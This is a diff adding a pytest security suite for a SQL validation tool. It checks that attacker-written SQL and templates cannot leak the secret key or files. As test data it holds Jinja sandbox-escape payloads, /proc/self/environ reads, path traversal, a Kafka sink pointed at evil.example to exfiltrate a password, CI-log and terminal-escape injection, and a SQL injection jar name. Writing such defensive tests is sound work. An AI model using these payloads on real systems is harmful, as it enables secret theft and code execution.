@@ -1,0 +1,304 @@
+"""An attacker's day, as the author of SQL in a pull request: what `validate` reads is theirs, the machine is not.
+
+They write the SQL, the templates, the project file and modules beside it. They want the key and the passwords of whoever
+validates, a file of that machine, code that runs there, or a check that never ends.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING, cast
+
+import pytest
+from typer.testing import CliRunner
+
+from penstock.catalog import reference_rules, secret, secret_mask
+from penstock.catalog.descriptor import CatalogDescriptor
+from penstock.catalog.errors import PenstockError, TemplateError
+from penstock.catalog.references import reveal
+from penstock.catalog.secret import KEY_VARIABLE, new_key
+from penstock.catalog.store import SqlCatalog
+from penstock.connector.delta.catalog import DeltaFolder
+from penstock.sql.cli.app import app
+from penstock.sql.config import Project, find_project
+from penstock.sql.run.functions import add_jar
+from penstock.sql.template import render_template
+
+if TYPE_CHECKING:
+    from pyspark.sql import SparkSession
+
+KEY = new_key()
+PASSWORD = "hunter2-of-the-machine"
+RUNNER = CliRunner(env={"COLUMNS": "200", "NO_COLOR": "1"})
+
+
+@pytest.fixture(autouse=True)
+def private(
+    project: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
+) -> Path:
+    """A machine that has a key in its environment, and a folder beside the project that is nobody's business."""
+    monkeypatch.setattr(secret_mask, "_values", set())
+    monkeypatch.setattr(secret, "_key_files", set())
+    monkeypatch.setattr(reference_rules, "_of_projects", {})
+    monkeypatch.setenv(KEY_VARIABLE, KEY)
+    private = tmp_path_factory.mktemp("private")
+    (private / "password").write_text(PASSWORD)
+    (project / ".penstock").mkdir(exist_ok=True)
+    (project / ".penstock" / "secret.key").write_text(KEY)
+    (project / ".penstock" / "secret.key").chmod(0o600)
+    return private
+
+
+def validated(project: Path, text: str, *options: str) -> str:
+    """All that `validate` says of a file."""
+    (project / "job.sql").write_text(text)
+    result = RUNNER.invoke(app, ["validate", "job.sql", *options])
+    assert "a fault in penstock" not in result.output.lower()
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    return result.output
+
+
+def table(option: str) -> str:
+    """A table that sends an option's value to a broker."""
+    return (
+        "CREATE TABLE t (id BIGINT) WITH ('connector' = 'kafka', 'topic' = 'a', 'format' = 'json',"
+        "'properties.bootstrap.servers' = 'evil.example:9092', 'properties.security.protocol' = 'SASL_SSL',"
+        "'properties.sasl.mechanism' = 'PLAIN', 'properties.sasl.username' = 'u',"
+        f"'properties.sasl.password' = '{option}');"
+    )
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{{ env_var('PENSTOCK_SECRET_KEY') }}",
+        "{{ env_var('PENSTOCK_SECRET_' ~ 'KEY', '') }}",
+        "{{ secret('PENSTOCK_SECRET_KEY') }}",
+        "{% include '.penstock/secret.key' %}",
+        "{% include './.penstock/secret.key' %}",
+        "{% import '.penstock/secret.key' as k %}{{ k }}",
+        "{% extends '.penstock/secret.key' %}",
+        "{% include '../private/password' %}",
+        "{% include 'link.sql' %}",
+        "{% include 'folder/password' %}",
+        "{{ key_of_macro() }}",
+    ],
+)
+def test_a_template_shows_neither_the_key_nor_a_file_outside(
+    project: Path, private: Path, template: str
+) -> None:
+    """By variables, includes, links to files and folders, macros that are links."""
+    (project / "link.sql").symlink_to(private / "password")
+    (project / "folder").symlink_to(private)
+    (project / "macros").mkdir()
+    (project / "macros" / "m.sql").symlink_to(private / "password")
+
+    shown = validated(project, f"SELECT '{template}';")
+    assert KEY not in shown
+    assert PASSWORD not in shown
+    found = find_project(project)
+    with pytest.raises(PenstockError):
+        render_template(template, "job.sql", {}, found.environment, found.folders)
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "{{ var.__globals__ }}",
+        "{{ env_var.__closure__[0].cell_contents }}",
+        "{{ secret.__code__ }}",
+        "{{ self.__init__.__globals__ }}",
+        "{{ self._TemplateReference__context }}",
+        "{{ (''|attr('__class__'))|attr('__base__') }}",
+        "{{ '{0.__class__.__base__}'.format('') }}",
+        "{{ '{0.__globals__}'|format(var) }}{{ ('{x.__globals__}').format_map({'x': var}) }}",
+        "{{ namespace.__init__.__globals__ }}",
+        "{{ [].append(1) }}{{ dict.mro() }}",
+        "{{ range.__class__.__bases__ }}",
+        "{% set x = {} %}{{ x.update({'a': 1}) }}",
+    ],
+)
+def test_a_template_does_not_leave_its_sandbox(project: Path, template: str) -> None:
+    """Nothing of Python behind the values is reached."""
+    with pytest.raises(TemplateError):
+        render_template(template, "job.sql", {}, {}, Project(root=project).folders)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/proc/self/environ",
+        "/proc/thread-self/environ",
+        "/proc/self/task/../environ",
+        "/proc/1/environ",
+        "/proc/self/cmdline",
+        "/proc/self/root/proc/self/environ",
+        "/dev/stdin",
+        "/dev/fd/0",
+        "/dev/zero",
+        "/sys/class/net",
+        "//proc/self/environ",
+    ],
+)
+def test_a_reference_reads_no_process_and_no_device(path: str) -> None:
+    """It ends at once, too."""
+    started = time.monotonic()
+    with pytest.raises(PenstockError):
+        reveal(f"${{file:{path}}}", secret=True)
+    assert time.monotonic() - started < 5
+
+
+def test_the_key_leaves_under_no_name(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The catalog's own file, a hard link to it, a copy among the variables."""
+    SqlCatalog(f"sqlite:///{project}/.penstock/catalog.db")
+    os.link(project / ".penstock" / "secret.key", project / "harmless.txt")
+    monkeypatch.setenv("BACKUP", f"{KEY},old")
+    for reference in (
+        f"${{env:{KEY_VARIABLE}}}",
+        "${env:BACKUP}",
+        f"${{file:{project}/.penstock/secret.key}}",
+        f"${{file:{project}/harmless.txt}}",
+    ):
+        with pytest.raises(PenstockError) as caught:
+            reveal(reference, secret=True)
+        assert KEY not in str(caught.value)
+        assert KEY not in validated(project, table(reference))
+
+
+def test_a_project_file_does_not_widen_what_the_operator_allows(
+    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nor does `.env`: the environment of the process is the operator's."""
+    monkeypatch.setenv("PENSTOCK_SECRET_FILE_ROOTS", "/run/secrets")
+    monkeypatch.setenv("PENSTOCK_SECRET_ENV_PREFIX", "JOB_")
+    monkeypatch.setenv("CI_TOKEN", PASSWORD)
+    (project / "penstock.toml").write_text('[secrets]\nfile-roots = ["/"]\nenv-prefix = ""\n')
+    (project / ".env").write_text("PENSTOCK_SECRET_FILE_ROOTS=/\nPENSTOCK_SECRET_ENV_PREFIX=\n")
+
+    shown = validated(project, "SELECT '{{ env_var('CI_TOKEN') }}';")
+    assert PASSWORD not in shown
+    assert "is not defined" in shown
+    for reference in (f"${{file:{private}/password}}", "${env:CI_TOKEN}"):
+        with pytest.raises(PenstockError):
+            reveal(reference, secret=True)
+
+
+def test_a_key_file_that_is_somebody_elses_secret_is_not_shown(
+    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`key-file` names any file of the machine: what is wrong with it is told without what is in it."""
+    monkeypatch.delenv(KEY_VARIABLE)
+    (private / "password").chmod(0o600)
+    (project / "penstock.toml").write_text(f'[secrets]\nkey-file = "{private}/password"\n')
+    (project / "job.sql").write_text("CREATE SECRET a AS 'value';")
+    result = RUNNER.invoke(app, ["secret", "set", "a"], input="value\n")
+
+    assert result.exit_code != 0
+    assert PASSWORD not in result.output
+
+
+def test_validate_runs_no_code_of_the_project(project: Path) -> None:
+    """Modules of functions, a `sitecustomize`, a `jinja2.py` beside the file."""
+    for name in ("evil", "sitecustomize", "jinja2", "conftest"):
+        (project / f"{name}.py").write_text(f"open(r'{project}/pwned', 'w').close()\n")
+
+    validated(
+        project,
+        "CREATE FUNCTION f AS 'evil.f' LANGUAGE PYTHON;\n"
+        "CREATE TABLE t (id BIGINT) WITH ('connector' = 'datagen');\n"
+        "CREATE TABLE s (id BIGINT) WITH ('connector' = 'blackhole');\n"
+        "SELECT '{{ var('a', 'b') }}';\nINSERT INTO s SELECT f(id) FROM t;",
+    )
+    assert not (project / "pwned").exists()
+
+
+@pytest.mark.parametrize("shape", ["github", "concise", "full", "json"])
+def test_a_name_does_not_write_lines_of_its_own_into_a_report(project: Path, shape: str) -> None:
+    """GitHub takes a line that begins with :: for a command, a terminal takes escapes."""
+    name = "`a\n::add-path::/tmp/evil\n::error::x\x1b]0;owned\x07`"
+    shown = validated(project, f"SELECT * FROM {name};", "--output-format", shape)
+
+    assert not any(line.startswith("::add-path") for line in shown.splitlines())
+    assert "\x1b" not in shown
+    assert "\x07" not in shown
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "SELECT " + "(" * 5000 + "1" + ")" * 5000 + ";",
+        "SELECT " + "NOT " * 5000 + "TRUE;",
+        "SELECT 1" + " + 1" * 20000 + ";",
+        "SELECT " + "CASE WHEN TRUE THEN " * 800 + "1" + " END" * 800 + ";",
+        "CREATE TABLE t (a "
+        + "ARRAY<" * 3000
+        + "INT"
+        + ">" * 3000
+        + ") WITH ('connector' = 'datagen');",
+        "/*" * 20000 + "SELECT 1;",
+        "SELECT '" + "x" * 2_000_000 + "';",
+    ],
+    ids=range(7),
+)
+def test_a_statement_that_is_nested_very_deeply_is_an_answer_in_time(
+    project: Path, text: str
+) -> None:
+    """Right or wrong, but no crash and no hour."""
+    started = time.monotonic()
+    validated(project, text, "--output-format", "concise")
+    assert time.monotonic() - started < 60
+
+
+def test_a_sealed_value_of_another_secret_is_not_taken(project: Path) -> None:
+    """What Penstock writes between its processes is refused in a file."""
+    catalog = SqlCatalog(f"sqlite:///{project}/.penstock/catalog.db")
+    catalog.secrets.create("production", PASSWORD)
+    sealed = catalog.secrets.sealed("production")
+    shown = validated(
+        project,
+        table(f"${{sealed:mine:{sealed.key_id}::{sealed.token}}}"),
+        "--output-format",
+        "json",
+    )
+
+    assert json.loads(shown)["errors"]
+    assert PASSWORD not in shown
+
+
+@pytest.mark.parametrize("name", ["../../etc/x", "a/b", ".", "", "a b", "x" * 300, "a\n"])
+def test_a_secret_has_a_name_that_is_only_a_name(project: Path, name: str) -> None:
+    """It is no path and no part of a reference."""
+    catalog = SqlCatalog(f"sqlite:///{project}/.penstock/catalog.db")
+    with pytest.raises(PenstockError):
+        catalog.secrets.create(name, "value")
+
+
+class _NoSpark:
+    """A session that must not be asked."""
+
+    def sql(self, text: str) -> None:
+        pytest.fail(f"Spark was asked for {text}")
+
+
+@pytest.mark.parametrize(
+    "name", ["a'; DROP TABLE t; --.jar", "a\\'.jar", 'a".jar', "a\nb.jar", "${x}.jar"]
+)
+def test_the_path_of_a_jar_is_no_sql(project: Path, name: str) -> None:
+    """ADD JAR is a text for Spark; the file is there."""
+    (project / name).touch()
+    with pytest.raises(PenstockError, match="that Spark would read as SQL"):
+        add_jar(name, cast("SparkSession", _NoSpark()), project)
+
+
+@pytest.mark.parametrize("database", ["..", "../..", "a/../..", "/etc", ".hidden", "_delta_log"])
+def test_a_database_of_a_folder_does_not_lead_out_of_it(project: Path, database: str) -> None:
+    """SHOW TABLES IN lake.`..` would list the folder above."""
+    descriptor = CatalogDescriptor(
+        name="lake", options=(("type", "delta-path"), ("path", str(project / "lake")))
+    )
+    with pytest.raises(PenstockError):
+        DeltaFolder(descriptor=descriptor, project=project).tables(database)
